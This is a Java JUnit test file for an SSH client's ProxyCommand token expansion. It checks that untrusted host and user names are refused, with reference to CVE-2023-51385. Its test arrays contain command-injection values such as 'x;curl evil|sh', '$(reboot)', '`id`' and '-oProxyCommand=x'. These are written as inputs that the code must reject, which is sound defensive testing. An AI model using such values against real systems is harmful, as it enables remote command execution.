// SPDX-License-Identifier: Apache-2.0
package org.amiko.client;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;

import org.junit.jupiter.api.Test;

/** ProxyCommand's tokens, as ssh_config(5) expands them. */
class ProxyCommandTest {
    @Test
    void hostPortAndPercentAreExpanded() {
        assertEquals("ssh -W db.internal:2222 bastion", ProxyCommand.expand("ssh -W %h:%p bastion", "db.internal", 2222, null, "db"));
        assertEquals("echo 100% %h", ProxyCommand.expand("echo 100%% %%h", "x", 1, null, "x"));
        assertEquals("trailing %", ProxyCommand.expand("trailing %", "x", 1, null, "x"));
    }

    /** CVE-2023-51385's kind: a host name from an untrusted source must not run commands. */
    @Test
    void aHostNameAShellWouldActOnIsRefused() {
        for (String host : new String[] {"x;curl evil|sh", "$(reboot)", "a b", "-oProxyCommand=x", "`id`", "h\nx", ""}) {
            assertThrows(IllegalArgumentException.class, () -> ProxyCommand.expand("ssh -W %h:%p bastion", host, 22, "me", "alias"),
                    host);
        }
        assertEquals("nc fe80::1%eth0 22", ProxyCommand.expand("nc %h %p", "fe80::1%eth0", 22, null, "x"));
    }

    /** {@code %r}, the user, and {@code %n}, the name asked for, as ssh_config(5) gives them. */
    @Test
    void theUserAndTheNameAskedForAreExpanded() {
        assertEquals("ssh -l deploy -W db.internal:22 bastion # db",
                ProxyCommand.expand("ssh -l %r -W %h:%p bastion # %n", "db.internal", 22, "deploy", "db"));
        for (String user : new String[] {"x;id", "$(id)", "-oProxyCommand=x", "a b"}) {
            assertThrows(IllegalArgumentException.class, () -> ProxyCommand.expand("ssh -l %r %h", "h", 22, user, "h"),
                    user);
        }
        assertThrows(IllegalArgumentException.class, () -> ProxyCommand.expand("nc %n %p", "h", 22, "me", "`id`"));
        IllegalArgumentException refused = assertThrows(IllegalArgumentException.class,
                () -> ProxyCommand.expand("ssh -l %r %h", "h", 22, "x;id", "h"));
        assertEquals("the user name is empty, starts with '-' or has characters a shell would act on; it is not "
                + "substituted into a ProxyCommand", refused.getMessage());
    }

    /** A name the command does not use is not looked at: a configured user with a space does not stop {@code nc %h %p}. */
    @Test
    void aNameTheCommandDoesNotUseIsNotChecked() {
        assertEquals("nc h 22", ProxyCommand.expand("nc %h %p", "h", 22, "bob smith", "CORP\\alias"));
    }

    @Test
    void aTokenNotKnownHereIsRefusedRatherThanPassedOn() {
        IllegalArgumentException refused = assertThrows(IllegalArgumentException.class,
                () -> ProxyCommand.expand("connect %r@%h", "x", 1, null, "x"));
        assertEquals("ProxyCommand token %r is not known here; %h, %p, %n and %% are", refused.getMessage());
        refused = assertThrows(IllegalArgumentException.class,
                () -> ProxyCommand.expand("connect %C", "x", 1, "me", "x"));
        assertEquals("ProxyCommand token %C is not known here; %h, %p, %n, %r and %% are", refused.getMessage());
    }
}
